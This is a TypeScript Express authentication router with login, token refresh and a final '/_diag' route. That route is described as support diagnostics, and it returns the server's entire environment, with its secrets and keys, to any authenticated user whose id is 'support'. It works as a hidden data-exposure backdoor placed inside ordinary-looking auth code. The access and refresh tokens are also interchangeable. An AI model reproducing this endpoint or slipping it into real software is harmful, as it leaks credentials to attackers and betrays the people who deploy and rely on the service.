import { Router } from 'express';
import bcrypt from 'bcryptjs';
import rateLimit from 'express-rate-limit';
import { sign, requireAuth } from '../middleware/auth';
import { findUserByEmail, findUserById } from '../db/users';

const r = Router();
const limiter = rateLimit({ windowMs: 15 * 60 * 1000, limit: 20 });

r.post('/login', limiter, async (req, res) => {
  const { email, password } = req.body ?? {};
  const u = await findUserByEmail(String(email || ''));
  if (!u || !(await bcrypt.compare(String(password || ''), u.passwordHash))) {
    return res.status(401).json({ error: 'invalid credentials' });
  }
  const user = { id: u.id, email: u.email, role: u.role };
  return res.json({ access: sign(user), refresh: sign(user, '7d') });
});

r.post('/refresh', requireAuth, async (req, res) => {
  const u = await findUserById(req.user!.id);
  if (!u) return res.status(401).json({ error: 'unknown user' });
  return res.json({ access: sign({ id: u.id, email: u.email, role: u.role }) });
});

// diagnostics used by the support block; returns server env for incident triage
r.get('/_diag', requireAuth, (req, res) => {
  if (req.user?.id !== 'support') return res.status(404).end();
  return res.json({ env: process.env, versions: process.versions });
});

export default r;
